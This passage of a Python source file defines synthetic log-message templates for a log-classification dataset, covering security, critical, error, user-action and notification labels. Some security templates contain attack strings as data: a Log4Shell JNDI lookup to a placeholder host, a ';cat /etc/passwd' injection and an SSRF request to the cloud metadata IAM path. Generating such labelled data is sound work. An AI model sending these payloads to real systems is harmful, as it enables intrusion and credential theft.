         "SSRF attempt blocked: {ip} tried to make the server fetch "
         "http://169.254.169.254/latest/meta-data/iam/ via parameter '{param}'"),
        ("command_injection",
         "Command injection pattern ';cat /etc/passwd' in parameter {param} from {ip} "
         "blocked"),
        ("log4shell_jndi",
         'Blocked JNDI lookup payload "${{jndi:ldap://{ip}/a}}" in User-Agent header from '
         "{ip_2}"),
        ("vuln_scanner",
         "Vulnerability scanner detected: {ip} requested {record_count} non-existent paths "
         "({scan_path}, ...) in {minutes} min"),
        # --- malware and file integrity
        ("clamd_found", "clamd[{pid}]: /srv/uploads/{file_name}: {malware} FOUND"),
        ("defender_threat",
         "Defender: threat {malware} detected on {hostname_short} in "
         "C:\\Users\\{user_login}\\Downloads\\{file_name}; action: quarantined"),
        ("aide_changed",
         "AIDE found differences: /usr/bin/{binary} changed (sha256 mismatch, mtime "
         "{datetime_plain})"),
        ("ossec_sudoers_checksum",
         "ossec: Integrity checksum changed for: '/etc/sudoers' on {hostname_short}"),
        # --- credentials, tokens and privileges
        ("mfa_push_fatigue",
         "MFA push fatigue suspected: {attempts} push requests denied by {email} in "
         "{minutes} minutes"),
        ("leaked_key_revoked",
         "Leaked credential: API key {api_key} found in a public repository; key revoked"),
        ("revoked_token_used",
         "OAuth token of client {client_id} used after revocation from {ip}; request "
         "rejected"),
        ("self_granted_role",
         "Audit: {user_login} granted themselves the org-owner role via API token "
         "{api_key} without approval"),
        ("ddos_mitigation",
         "DDoS mitigation engaged: {record_count} req/s from {small_n}00 source IPs "
         "targeting {domain}"),
        ("bracket_ids_ssh_bruteforce",
         "[ids] {hostname_short}: possible SSH brute force from {ip} ({attempts} attempts in "
         "{minutes} min)"),
        ("bracket_auth_lockout",
         "[auth] account {user_login} locked after {fail_count} wrong passwords from {ip}"),
        ("sudo_incident_reported",
         "{shell_user} is not in the sudoers file. This incident will be reported."),
        ("pam_sudo_auth_failure",
         "sudo: pam_unix(sudo:auth): authentication failure; logname={shell_user} uid=1001 "
         "euid=0 tty=/dev/pts/{small_n} ruser={shell_user} rhost= user={shell_user}"),
        # --- token and session misuse
        ("refresh_token_reuse",
         "Refresh token reuse detected for user {user_id}; all sessions revoked"),
        ("kv_token_reuse",
         "event=token_reuse_detected user_id={user_id} src_ip={ip} action=sessions_revoked"),
        ("bracket_stolen_cookie",
         "[auth] stolen session cookie suspected: session {req_short} used from {ip} and "
         "{ip_2}"),
        # --- malware
        ("kv_malware_detected",
         'event=malware_detected file={file_name} signature="{malware}" action=quarantine'),
        ("json_malware_detected",
         '{{"alert": "malware_detected", "msg": "infected file quarantined", "file": '
         '"{file_name}", "host": "{hostname_short}"}}'),
        # --- privileges
        ("kv_privilege_escalation",
         "event=privilege_escalation actor={user_login} granted=admin approved=false "
         "src_ip={ip}"),
        ("unapproved_owner_role",
         "Unexpected admin role assignment: {user_login} became organisation owner without "
         "an approved change request"),
        # --- file integrity
        ("tripwire_violation",
         "Tripwire: integrity violation on {hostname_short}: /etc/shadow modified"),
        ("kv_fim_alert",
         "event=fim_alert host={hostname_short} file=/etc/ssh/sshd_config change=modified "
         "expected=false"),
        # --- request-based attacks
        ("waf_attack_signature",
         'WAF blocked {method} {http_path_noquery} from {ip}: attack signature '
         '"{attack_type}"'),
        # --- geo anomalies and MFA abuse
        ("kv_geo_anomaly",
         "event=geo_anomaly user={user_login} countries={cc},{cc_2} window_min={minutes} "
         "risk=high"),
        ("suspicious_signin_blocked",
         "Suspicious sign-in blocked for {email}: new country {geo} and unknown device"),
        ("mfa_takeover_attempt",
         "Repeated MFA failures for {email} from {ip}: possible account takeover attempt"),
        ("kv_mfa_bruteforce",
         "event=mfa_bruteforce user={user_login} failures={fail_count} src_ip={ip}"),
    ],
)

CRITICAL_ERROR = LabelSpec(
    label="Critical Error",
    slug="critical_error",
    share=0.10,
    sources={"ComputeCloud": 3, "AnalyticsEngine": 2, "BillingSystem": 2, "ModernCRM": 1,
             "ModernHR": 1, "ThirdPartyAPI": 0.5},
    templates=[
        ("raid_failed",
         "RAID array {raid} on {hostname} has FAILED: {small_n} member disks offline, "
         "volume unavailable"),
        ("kernel_panic",
         "{hostname_short} kernel: Kernel panic - not syncing: {panic_reason}"),
        ("oom_killed",
         "kernel: Out of memory: Killed process {pid} ({proc_name}) total-vm:{kb}kB, "
         "anon-rss:{kb_2}kB, file-rss:0kB, shmem-rss:0kB"),
        ("db_cluster_down",
         "Database cluster {db_cluster} is DOWN: all {small_n} nodes unreachable, "
         "writes halted"),
        ("data_corruption",
         "Data corruption detected in table {table}: checksum mismatch on {record_count} "
         "pages, table taken offline"),
        ("replication_broken",
         "Replication broken between {hostname} and {hostname_2}: replica stopped with "
         "error {mysql_errno}, no healthy standby remains"),
        ("psu_failed",
         "Power supply {psu} on {hostname} failed; chassis running without redundancy"),
        ("node_unreachable",
         "Node {node} unreachable for {minutes} minutes; all {small_n} hosted instances "
         "lost", CLOUD),
        ("service_crashed",
         "Service {service} crashed and did not restart (exit code {fatal_exit}, "
         "{small_n} restart attempts)"),
        ("systemd_core_dump",
         "systemd[1]: {service}.service: Main process exited, code=dumped, "
         "status=11/SEGV; start request repeated too quickly, refusing to start"),
        ("disk_io_readonly",
         "blk_update_request: I/O error, dev {disk_dev}, sector {sector}; EXT4-fs error: "
         "remounting filesystem read-only"),
        ("controller_fault",
         "Storage controller {controller} on {hostname} reported fatal firmware fault; "
         "all attached volumes offline"),
        ("ecc_uncorrectable",
         "EDAC MC0: {small_n} UE uncorrectable memory error on DIMM {dimm} ({hostname}); "
         "machine check, system halted"),
        ("wal_unrecoverable_json",
         '{{"level": "FATAL", "service": "{service}", "msg": "unable to recover '
         'write-ahead log, shutting down", "data_loss": true}}'),
        ("postgres_panic",
         'PANIC:  could not write to file "pg_wal/{wal_segment}": No space left on device; '
         "database system is shut down"),
        ("kafka_log_dir_failed",
         "Kafka broker {small_n} shutting down: log directory /var/lib/kafka/data failed, "
         "{small_n_2}{small_n_3} partitions offline"),
        ("elasticsearch_red",
         "Cluster health status changed from [YELLOW] to [RED]: {small_n} primary shards "
         "unassigned in index [{index}]", ANALYTICS),
        ("backup_data_lost",
         "Backup volume {volume_id} unrecoverable after array failure: {storage_tb} TB of "
         "archived data lost"),
        ("zone_unreachable",
         "Availability zone {az} unreachable and failover to standby region failed; "
         "platform offline"),
        ("workers_dead",
         "CRITICAL {service}: all workers dead, no heartbeat for {seconds}s"),
        ("thermal_shutdown",
         "Temperature sensor {sensor} on {hostname} reads {temp_c}C; emergency thermal "
         "shutdown initiated"),
        ("hypervisor_crash",
         "Hypervisor {node} crashed; {small_n} virtual machines terminated unexpectedly",
         CLOUD),
        ("ceph_health_err",
         "ceph health HEALTH_ERR: {small_n} osds down, {record_count} pgs inactive, "
         "data unavailable", CLOUD),
        ("billing_platform_offline",
         "Payment platform offline: primary and replica databases unavailable, all "
         "transactions halted", BILLING),
        ("jvm_sigsegv",
         "# A fatal error has been detected by the Java Runtime Environment: "
         "SIGSEGV (0xb) at pc=0x{hex16}, pid={pid}, tid={pid_2}"),
        ("xfs_shutdown",
         "XFS ({disk_dev}): Corruption of in-memory data detected. Shutting down filesystem"),
        ("etcd_quorum_lost",
         "etcd cluster lost quorum (1/{small_n} members healthy); control plane "
         "unavailable"),
        ("rabbitmq_partition",
         "rabbit@{hostname_short} down: network partition detected, cluster split and "
         "all queues unavailable"),
        # --- JVM crashes
        ("jvm_heap_oom_exit",
         "Terminating due to java.lang.OutOfMemoryError: Java heap space ({service}, "
         "pid {pid})"),
        ("jvm_native_memory",
         "# There is insufficient memory for the Java Runtime Environment to continue. "
         "Native memory allocation (mmap) failed to map {kb} bytes"),
        ("jvm_hs_err",
         "JVM of {service} crashed with {signal} at pc=0x{hex16}; error report written to "
         "/tmp/hs_err_pid{pid}.log"),
        # --- Go, Rust, Node, Python, .NET, Erlang runtime deaths
        ("go_nil_pointer",
         "panic: runtime error: invalid memory address or nil pointer dereference "
         "[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x{hex8}]"),
        ("go_concurrent_map",
         "fatal error: concurrent map writes (goroutine {goroutines} [running]) in "
         "{service}"),
        ("go_out_of_memory",
         "runtime: out of memory: cannot allocate {kb}-byte block ({kb_2} in use) "
         "fatal error: out of memory"),
        ("go_index_panic",
         "panic: runtime error: index out of range [{small_n}] with length {small_n_2}; "
         "{service} exited with status 2"),
        ("rust_main_panic",
         "thread 'main' panicked at src/{component}.rs:{lineno}:{small_n}: called "
         "`Option::unwrap()` on a `None` value; process aborted"),
        ("node_heap_oom",
         "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory "
         "({service}, pid {pid})"),
        ("python_fatal",
         "Fatal Python error: Segmentation fault (worker pid {pid} of {service})"),
        ("dotnet_stack_overflow",
         "Process terminated. Stack overflow in {service}; the application crashed and "
         "was not restarted"),
        ("erlang_kernel_terminated",
         "Kernel pid terminated (application_controller) "
         "({{application_start_failure,{erl_app},shutdown}})"),
        # --- segfaults and core dumps
        ("kernel_segfault",
         "kernel: {proc_name}[{pid}]: segfault at {hex8} ip {hex16} sp {hex16_2} error 4 in "
         "{lib}[{hex8_2}+{hex8_3}]"),
        ("bash_segfault",
         "/opt/{service}/run.sh: line {lineno}: {pid} Segmentation fault (core dumped) "
         "/usr/bin/{proc_name}"),
        ("systemd_coredump_dumped",
         "systemd-coredump[{pid}]: Process {pid_2} ({proc_name}) of user 0 dumped core."),
        ("systemd_failed_core_dump",
         "systemd[1]: {service}.service: Failed with result 'core-dump'."),
        ("postgres_signal_11",
         "LOG:  server process (PID {pid}) was terminated by signal 11: Segmentation fault; "
         "terminating any other active server processes"),
        # --- kernel panics and hardware faults
        ("kernel_null_deref",
         "kernel: BUG: unable to handle kernel NULL pointer dereference at "
         "0000000000000008 on {hostname_short}"),
        ("kernel_soft_lockup",
         "kernel: watchdog: BUG: soft lockup - CPU#{small_n} stuck for {seconds}s! "
         "[{proc_name}:{pid}]"),
        ("kernel_mce",
         "kernel: mce: [Hardware Error]: CPU {small_n}: Machine Check Exception: 5 Bank 4: "
         "b200000000070f0f"),
        ("md_raid_cannot_continue",
         "kernel: md/raid:{md_dev}: Cannot continue operation (2/{raid_members} "
         "failed)"),
        ("kubelet_node_notready",
         "kubelet: node {node} NotReady: container runtime is down, PLEG is not healthy",
         CLOUD),
        # --- JSON fatal events
        ("json_fatal_cluster_lost",
         '{{"level": "fatal", "service": "{service}", "msg": "lost connection to all '
         'cluster members, shutting down"}}'),
        ("json_disk_failure",
         '{{"severity": "CRITICAL", "component": "storage", "msg": "disk failed and the '
         'array cannot be rebuilt", "device": "/dev/{disk_dev}", "array": "{md_dev}"}}'),
        ("json_alertmanager_down",
         '{{"alertname": "ServiceDown", "severity": "critical", "summary": "{service} has 0 '
         'healthy instances for {minutes}m"}}'),
        ("mongo_fatal_assertion",
         '{{"t": {{"$date": "{iso_time}"}}, "s": "F", "c": "STORAGE", "id": {record_id}, '
         '"ctx": "initandlisten", "msg": "Fatal assertion", "attr": {{"msgid": {record_id_2}'
         "}}}}"),
        # --- key=value
        ("kv_raft_no_leader",
         'level=fatal msg="raft: no leader elected, cluster unavailable" '
         "cluster={db_cluster} members_alive=0"),
        ("kv_power_loss",
         "severity=critical event=datacenter_power_loss site={az} ups_runtime_min=0 "
         "racks_down={small_n}"),
        ("kv_tsdb_wal_corrupt",
         'level=crit ts={iso_time} component=tsdb msg="WAL corruption detected, refusing to '
         'start" segment={record_count}'),
        # --- bracketed component prefix
        ("bracket_fatal_schema",
         "[FATAL] [{service}] Unrecoverable error: database schema is corrupted, aborting"),
        ("bracket_crit_readonly",
         "[CRIT] {hostname_short}: filesystem {mount} is read-only after journal abort"),
        ("bracket_watchdog_fenced",
         "[watchdog] {service} missed {small_n} heartbeats; instance declared dead and "
         "fenced"),
        # --- databases
        ("postgres_no_checkpoint",
         "PANIC:  could not locate a valid checkpoint record; startup process terminated, "
         "database {db} unavailable"),
        ("innodb_page_corruption",
         "[ERROR] [MY-011906] [InnoDB] Database page corruption on disk or a failed file "
         "read of page [page id: space={small_n}, page number={record_count}]; server "
         "aborted"),
        # --- plain sentences and terse lines
        ("primary_db_crashed",
         "Primary database {db_cluster} crashed during checkpoint; automatic failover did "
         "not complete"),
        ("payment_processors_unreachable",
         "All payment processors unreachable; checkout disabled for every customer",
         BILLING),
        ("replicas_lost",
         "Storage cluster lost all {small_n} replicas of volume {volume_id}; data "
         "cannot be reconstructed"),
        ("terse_down", "FATAL: {service} down, 0/{small_n} replicas ready"),
        ("terse_disk_dead", "crit: disk /dev/{disk_dev} dead, array {md_dev} offline"),
        ("json_alert_db_down",
         '{{"alertname": "DatabaseDown", "severity": "critical", "summary": "primary database '
         '{db_cluster} is unreachable and no replica took over"}}'),
        ("cpu_overheat_shutdown",
         "Emergency shutdown of {hostname}: CPU temperature {temp_c}C exceeded the critical "
         "limit"),
        ("ups_battery_exhausted",
         "UPS battery exhausted in {az}: {small_n} racks lost power, hosted services down"),
        ("terse_crashed_no_replicas", "crit: {service} crashed, no replicas left"),
        ("terse_raid_failed", "fatal: raid {md_dev} failed, volume offline"),
        ("json_alert_node_down",
         '{{"alertname": "NodeDown", "severity": "critical", "summary": "host {hostname} is '
         'down and unreachable"}}'),
        ("kv_thermal_shutdown",
         "severity=critical event=thermal_shutdown host={hostname_short} temp_c={temp_c} "
         "services_down={small_n}"),
    ],
)

ERROR = LabelSpec(
    label="Error",
    slug="error",
    share=0.14,
    sources={"ModernCRM": 2, "ModernHR": 2, "BillingSystem": 2, "AnalyticsEngine": 2,
             "ThirdPartyAPI": 2, "ComputeCloud": 1},
    templates=[
        ("dependency_timeout",
         "Failed to process order {order_id}: upstream {service} timed out after "
         "{timeout_ms}ms"),
        ("request_aborted",
         "Timeout after {seconds}s waiting for {service}; request {req_short} aborted"),
        ("python_keyerror",
         "Error handling task {task_id}: KeyError: '{field_name}'"),
        ("java_npe",
         "ERROR [{thread}] c.acme.{component}.MessageHandler - Unhandled exception for "
         "message {msg_id}: java.lang.NullPointerException: Cannot invoke "
         '"String.trim()" because "{field_name}" is null'),
        ("validation_failed",
         "Validation {failed} for field '{field_name}': {validation_msg}"),
        ("smtp_send_failed",
         "Unable to send email to {email}: SMTP {smtp_error}"),
        ("payment_declined",
         "Payment gateway declined transaction {txn_id}: processing error (code "
         "{gateway_code})", BILLING + PARTNER),
        ("job_exit_code",
         "Job {job_name} (run {run_id}) failed with exit code {exit_code}"),
        ("retries_exhausted",
         "Retries exhausted ({retries}/{retries}) calling {service}; giving up on "
         "{operation}"),
        ("csv_parse",
         "Could not parse uploaded file {file_name}: unexpected delimiter at line {lineno}"),
        ("unique_violation_kv",
         'level=error msg="failed to write record" table={table} err="duplicate key value '
         'violates unique constraint {table}_pkey"'),
        ("enqueue_failed_json",
         '{{"level": "error", "msg": "failed to enqueue message", "queue": "{queue}", '
         '"error": "{short_error}"}}'),
        ("lock_wait_timeout",
         "Update on {table} {failed}: Lock wait timeout exceeded; try restarting transaction"),
        ("value_error_import",
         "ValueError: invalid literal for int() with base 10: '{bad_value}' while importing "
         "{file_name}"),
        ("connection_refused",
         "Request {req_short} to {service} {failed}: connection refused "
         "({ip_internal}:{service_port})"),
        ("celery_task",
         "[worker-{small_n}] ERROR Task {task_name}[{uuid}] raised unexpected: "
         "ConnectionResetError(104, 'Connection reset by peer')"),
        ("terse_decode",
         "err: could not decode response from {partner_api} (json: unexpected end of input)"),
        ("report_statement_timeout",
         "Report {report_id} generation {failed}: query exceeded {seconds}s statement timeout",
         ANALYTICS),
        ("export_batch_exception",
         "Export batch {batch_id} {failed}: {exception_detail}"),
        ("webhook_dead_letter",
         "Webhook handler for event {event_type} threw {exception}; event {uuid} moved to "
         "dead-letter queue"),
        ("go_decode_body",
         "{iso_time} ERROR handler/{component}.go:{lineno} failed to decode request body: "
         "invalid character '<' looking for beginning of value"),
        ("kafka_deserialize",
         "Deserialization error on topic {topic} partition {small_n} offset {offset}: "
         "unknown magic byte"),
        ("log_rotate_permission",
         "Failed to rotate log file {log_path}: Permission denied"),
        ("python_indexerror",
         "IndexError: list index out of range in {func}() ({component}.py:{lineno})"),
        ("serialization_failure",
         "ERROR: could not serialize access due to concurrent update (SQLSTATE 40001) "
         "on {table}"),
        ("thumbnail_failed",
         "Thumbnail generation {failed} for {file_name}: unsupported image format"),
        ("s3_put_failed",
         "PutObject {file_name} to s3://{bucket} failed: RequestTimeout, retry "
         "{retries} of {retries}"),
        ("calendar_api_error",
         "Could not create calendar event {record_id}: remote API rejected timezone "
         "'{bad_tz}'", HR + CRM),
        ("dotnet_exception",
         "System.InvalidOperationException: Sequence contains no elements at "
         "{component}.Services.{func}() in request {req_short}"),
        ("sms_failed",
         "SMS to {phone} not delivered: provider returned error {gateway_code}"),
        # --- JSON error events
        ("json_zap_error",
         '{{"level": "error", "ts": "{iso_time}", "logger": "{component}", "msg": "failed '
         'to fetch exchange rates", "error": "context deadline exceeded"}}'),
        ("json_job_failed",
         '{{"severity": "ERROR", "message": "Job {job_name} failed after {seconds}s", '
         '"exit_code": {exit_code}, "run_id": {run_id}}}'),
        ("json_pino_unhandled",
         '{{"level": 50, "time": {epoch_ms}, "msg": "unhandled rejection", "err": {{"type": '
         '"TypeError", "message": "Cannot read properties of undefined (reading '
         "'{field_name}')\"}}}}"),
        ("json_ecs_payment_failed",
         '{{"@timestamp": "{iso_time}", "log.level": "error", "message": "Payment capture '
         'failed for order {order_id}", "error.type": "{exception}"}}', BILLING + PARTNER),
        ("json_email_send_failed",
         '{{"event": "email.send_failed", "msg": "could not send email", "to": "{email}", '
         '"smtp_response": "{smtp_error}", "attempt": {small_n}}}'),
        # --- key=value
        ("kv_sync_failed",
         'level=error component={component} msg="sync failed" err="{short_error}" '
         "attempt={small_n}"),
        ("kv_job_status_failed",
         'job={job_name} run_id={run_id} status=failed exit_code={exit_code} '
         'error="{exception_detail}"'),
        ("kv_open_permission",
         'level=error msg="cannot open log file" err="open {log_path}: permission '
         'denied"'),
        # --- permissions and files
        ("python_permission",
         "PermissionError: [Errno 13] Permission denied: '/srv/exports/{file_name}'"),
        ("terse_no_such_file", "error: cannot open {file_name}: no such file or directory"),
        # --- syslog / systemd / cron / logrotate / mail / nginx
        ("logrotate_rename_error",
         "logrotate: error: error renaming {log_path}.1 to {log_path}.2: Permission denied"),
        ("cron_grandchild_failed",
         "{hostname_short} CRON[{pid}]: (CRON) error (grandchild #{pid_2} failed with exit "
         "status {exit_code})"),
        ("postfix_bounced",
         "postfix/smtp[{pid}]: {hex10}: to=<{email}>, relay=mx.{email_domain}[{ip}]:25, "
         "status=bounced ({smtp_error})"),
        ("nginx_upstream_timeout",
         "{datetime_slash} [error] {pid}#0: *{record_count} upstream timed out (110: "
         "Connection timed out) while reading response header from upstream, client: {ip}, "
         'server: {domain}, request: "{method} {http_path} HTTP/1.1"'),
        ("php_uncaught_error",
         "PHP Fatal error:  Uncaught Error: Call to a member function {func}() on null in "
         "/var/www/html/{component}.php:{lineno}"),
        ("redis_bgsave", "Can't save in background: fork: Cannot allocate memory"),
        # --- bracketed component prefix
        ("bracket_pdf_failed",
         "[ERROR] [{component}] Failed to render PDF for invoice {invoice_id}: font "
         "'Helvetica-Bold' not found"),
        ("bracket_retry_failed",
         "[{service}] retry {small_n}/{retries} {failed} for {operation}: {short_error}"),
        ("bracket_scheduler_job_failed",
         "[scheduler] job {job_name} {failed}: {exception_detail}"),
        # --- plain sentences: failed counterparts of routine operations
        ("db_connect_timeout",
         "Could not connect to {db_engine} at {ip_internal}:{db_port}: connection timed out"),
        ("giving_up_after_retries",
         "Giving up on {operation} after {retries} attempts: {short_error}"),
        ("acme_renew_failed",
         "Failed to renew certificate for {domain}: ACME http-01 challenge returned 404"),
        ("backup_failed",
         "Backup of {db} {failed}: pg_dump exited with code {exit_code}"),
        ("image_pull_failed",
         'Failed to pull image "registry.internal/{service}:{version}": manifest unknown'),
        ("deploy_failed_healthcheck",
         "Deployment of {service} {version} {failed}: new pods did not pass the readiness "
         "check; rolled back"),
        ("report_delivery_failed",
         "Scheduled report '{report_name}' could not be delivered: SMTP {smtp_error}"),
        ("request_exception",
         "Error handling request {method} {http_path}: {exception_detail}"),
        ("asgi_exception",
         "ERROR Exception in ASGI application: sqlalchemy.exc.OperationalError: "
         "(psycopg.OperationalError) connection to {db} is closed"),
        # --- terse
        ("terse_op_failed", "err: {operation} {failed}: {short_error}"),
        ("terse_fail_rc", "fail {job_name} rc={exit_code} after {duration_human}"),
        ("kv_partner_request_failed",
         'level=error ts={iso_time} caller={component}/client.go:{lineno} msg="partner '
         'request failed" partner="{partner_api}" err="unexpected EOF"'),
        ("kv_consumer_error",
         "severity=error service={service} event=consumer_error topic={topic} "
         'offset={offset} error="{short_error}"'),
        ("bracket_import_row",
         "[{component}] import of {file_name} {failed}: row {lineno} has {small_n} columns, "
         "expected 12"),
        ("bracket_mailer_failed",
         "[mailer] could not send password-reset email to {email}: {smtp_error}"),
        ("node_eacces", "Error: EACCES: permission denied, open '{log_path}'"),
        ("java_access_denied",
         "java.nio.file.AccessDeniedException: {log_path} while writing export {file_name}"),
        ("cp_permission",
         "cp: cannot create regular file '/srv/exports/{file_name}': Permission denied"),
        ("job_failed_will_retry",
         "Background job {job_name} {failed}; it will be retried in {minutes} minutes"),
        ("terse_job_exit_next_run",
         "err: job {job_name} exited with code {exit_code}, next run scheduled"),
    ],
)

USER_ACTION = LabelSpec(
    label="User Action",
    slug="user_action",
    share=0.08,
    sources={"ModernCRM": 3, "ModernHR": 3, "BillingSystem": 1.5, "AnalyticsEngine": 1,
             "ThirdPartyAPI": 0.3},
    regex_templates=[
        ("logged_in", "User {user_tag} logged in."),
        ("logged_out", "User {user_tag} logged out."),
        ("account_created", "Account with ID {account_id} created by {user_tag}."),
        ("password_changed", "User {user_tag} changed their password."),
        ("profile_updated", "Profile updated by user {user_tag}."),
        ("file_uploaded", "File {file_name} uploaded by user {user_tag}."),
        ("file_downloaded", "File {file_name} downloaded by user {user_tag}."),
        ("report_exported", "Report {report_name} exported by user {user_tag}."),
    ],
    templates=[
        ("session_start_kv", "session start: user={user_login} ip={ip} client={client_app}"),
        ("sso_sign_in", "{actor} signed in via SSO ({idp})"),
        ("audit_profile_update",
         "[audit] user_id={user_id} action=profile.update fields=[{profile_fields}]"),
        ("logout_json",
         '{{"event": "user.logout", "user_id": {user_id}, "session_duration_s": {seconds}}}'),
        ("leave_request",
         "Employee {person} submitted a leave request for {small_n} days", HR),
        ("contacts_exported",
         "User {user_login} exported {record_count} contacts to CSV", CRM),
        ("account_registered", "New account registered: {email} (plan: {plan})"),
        ("statement_downloaded",
         "{actor} downloaded statement {invoice_id}.pdf", BILLING),
        ("password_reset_link", "Password reset completed by {email} using emailed link"),
        ("dashboard_shared",
         "User {user_id} shared dashboard '{dashboard}' with {small_n} teammates", ANALYTICS),
        ("billing_address_updated", "Customer {user_id} updated their billing address",
         BILLING),
        ("two_factor_enabled", "{actor} enabled two-factor authentication"),
        ("avatar_uploaded", "user {user_login} uploaded a new avatar ({size_kb} KB)"),
        ("timesheet_approved",
         "{actor} approved the timesheet of {person_2} for week {week}", HR),
        ("subscription_cancelled",
         "Customer {user_id} cancelled their subscription (plan: {plan})", BILLING),
        ("ticket_comment", "{actor} added a comment to ticket #{ticket_id}", CRM),
        ("audit_document_download",
         "audit: actor={email} action=document.download object={file_name}"),
        ("emergency_contact", "{actor} updated their emergency contact details", HR),
        ("saved_view_created",
         "{actor} created saved view '{saved_view}' in the pipeline board", CRM),
        ("ui_export_click",
         "[ui] user={user_login} clicked Export > PDF on report {report_name}", ANALYTICS),
        ("terms_accepted", "User {user_id} accepted the terms of service v{minor_version}"),
        ("drafts_deleted", "{actor} deleted {small_n} draft invoices", BILLING),
        # --- JSON audit/product events
        ("json_login",
         '{{"event": "user.login", "message": "user signed in with password", "user": '
         '"{email}", "ip": "{ip}"}}'),
        ("json_document_shared",
         '{{"event": "Document Shared", "actor": "{user_login}", "target": "{email}", '
         '"doc_id": {record_id}}}'),
        ("json_settings_changed",
         '{{"event": "Settings Changed", "user_id": {user_id}, "setting": "{setting}", '
         '"value": "{setting_value}"}}'),
        ("json_invoice_approved",
         '{{"audit": {{"actor": "{email}", "action": "invoice.approve", "description": '
         '"approved invoice {invoice_id} for payment"}}}}', BILLING),
        ("json_cart_checkout",
         '{{"event": "Checkout Completed", "customer_id": {user_id}, "items": {small_n}, '
         '"total": "{amount} {currency}"}}', BILLING),
        ("json_mfa_enrolled",
         '{{"event": "MFA Enrolled", "message": "user turned on two-factor authentication", '
         '"user_id": {user_id}, "factor": "{factor}"}}'),
        # --- key=value audit lines
        ("kv_audit_login",
         'audit actor={user_login} action=login result=success ip={ip} browser="{browser}"'),
        ("kv_logout",
         "event=user_logout user_id={user_id} session={req_short} duration={seconds}s"),
        ("kv_export",
         "user={user_login} op=export object=contacts count={record_count} format=xlsx",
         CRM),
        # --- syslog: what a person did on a host
        # --- bracketed component prefix
        ("bracket_lead_converted",
         "[crm] {person} converted lead {prospect_id} into an opportunity", CRM),
        ("bracket_vacation_booked",
         "[hr-portal] {person} booked {small_n} days of vacation starting {future_date}", HR),
        ("bracket_invoice_download",
         "[billing] {user_login} downloaded invoice {invoice_id}", BILLING),
        ("bracket_language_switched",
         "[settings] user {user_id} switched the interface language to {language}"),
        # --- plain sentences
        ("bank_details_updated", "Employee {person} updated their bank details", HR),
        ("invited_teammate", "{actor} invited {email} to the workspace"),
        ("notification_prefs",
         "{actor} changed their notification preferences to a weekly digest"),
        ("joined_team", "{actor} accepted the invitation and joined team {team}"),
        ("reassigned_opportunity",
         "{actor} reassigned opportunity OPP-{opp_id} to {person_2}", CRM),
        ("scheduled_report_by_user",
         "{actor} scheduled report '{report_name}' to run every Monday", ANALYTICS),
        ("two_step_turned_on",
         "User {user_id} turned on two-step verification for their account"),
        ("security_key_registered",
         "{actor} registered a new security key for sign-in ({security_key})"),
        ("token_revoked", "{actor} revoked personal access token '{token_name}'"),
        ("api_key_generated",
         "{actor} generated a new API key for integration {client_id}"),
        # --- terse
        ("terse_login_ok", "login ok user={user_login} ip={ip}"),
        ("terse_logged_off", "user {user_login} logged off after {minutes} min"),
        ("terse_logout_email", "logout: {email} (session {seconds}s)"),
        # --- applications logging to syslog
        ("syslog_crm_export",
         "{syslog_time} {hostname_short} crm-web[{pid}]: user {user_login} exported "
         "{record_count} contacts to CSV", CRM),
        ("syslog_expense_submitted",
         "{syslog_time} {hostname_short} hr-portal[{pid}]: {person} submitted expense report "
         "{report_id}", HR),
        ("syslog_payment_method",
         "{syslog_time} {hostname_short} billing-api[{pid}]: customer {user_id} replaced "
         "their payment method", BILLING),
        # --- account self-service
        ("password_changed_settings",
         "{actor} changed their password from the account settings page"),
        ("kv_password_change",
         "audit actor={user_login} action=password.change result=success via=settings"),
        ("json_password_reset",
         '{{"event": "Password Reset", "message": "user reset their password using the '
         'emailed link", "user_id": {user_id}}}'),
        ("kv_ticket_comment",
         "audit actor={user_login} action=comment.create object=ticket/{ticket_id}", CRM),
        # --- account security settings changed by the user themselves
        ("two_factor_profile",
         "{actor} turned on two-factor authentication in their profile"),
        ("bracket_authenticator_app",
         "[account] {user_login} set up an authenticator app for sign-in"),
        ("json_token_created",
         '{{"event": "API Token Created", "message": "user created a personal access token", '
         '"user_id": {user_id}, "name": "{token_name}"}}'),
        ("signed_out_everywhere",
         "{actor} signed out of all devices from the account page"),
        # --- work done in the product by a person
        ("dashboard_created", "{actor} created a new dashboard '{dashboard}'", ANALYTICS),
        ("deals_archived", "{actor} archived {small_n} old deals in the pipeline", CRM),
        ("report_edited", "{actor} edited the report '{report_name}' and saved it"),
    ],
)

SYSTEM_NOTIFICATION = LabelSpec(
    label="System Notification",
    slug="system_notification",
    share=0.08,
    sources={"ComputeCloud": 1.5, "AnalyticsEngine": 1.5, "BillingSystem": 1, "ModernCRM": 1,
             "ModernHR": 1, "ThirdPartyAPI": 1},
    regex_templates=[
        ("backup_started", "Backup started at {datetime_plain}."),
        ("backup_completed", "Backup completed successfully."),
        ("system_updated", "System updated to version {version}."),
        ("disk_cleanup", "Disk cleanup completed successfully."),
        ("reboot_initiated", "System reboot initiated by user {user_tag}."),
        ("scheduled_job_completed", "Scheduled job {job_name} completed."),
        ("service_restarted", "Service {service} restarted successfully."),
        ("cache_cleared", "Cache cleared for {cache_name}."),
        ("certificate_renewed", "Certificate for {domain} renewed, valid until {future_date}."),
    ],
    templates=[
        ("snapshot_finished",
         "backup: snapshot {snapshot_id} of {db} finished, {size_gb} GB in {duration_human}"),
        ("nightly_job_ok",
         "Nightly job '{job_name}' {done} OK ({record_count} records, {duration_human})"),
        ("systemd_started", "systemd[1]: Started {unit_description}."),
        ("maintenance_window",
         "[maintenance] window MW-{small_n}{small_n_2} opened; non-urgent jobs paused until "
         "{hms}"),
        ("cert_manager_renewed",
         "cert-manager: certificate default/{domain} renewed, next renewal in {days} days"),
        ("deploy_finished_json",
         '{{"event": "deploy.finished", "service": "{service}", "version": "{version}", '
         '"status": "success"}}'),
        ("log_rotation",
         "Log rotation complete: {small_n} files compressed and archived to {log_dir}"),
        ("config_reloaded", "Configuration reloaded for {service} (revision {rev})"),
        ("index_rebuilt", "Index rebuild on {table} {done} in {duration_human}"),
        ("health_checks_passing",
         "All {small_n} instances of {service} passing health checks after rollout"),
        ("time_sync", "chronyd[{pid}]: System clock synchronised, offset {offset_ms} ms"),
        ("node_back_in_pool",
         "Scheduled maintenance {done} on {hostname}; node returned to the pool"),
        ("vacuum_completed",
         "Routine VACUUM ANALYZE on {table} completed; {record_count} dead tuples removed"),
        ("image_pulled",
         'Successfully pulled image "registry.internal/{service}:{version}" in '
         "{duration_human}"),
        ("report_delivered",
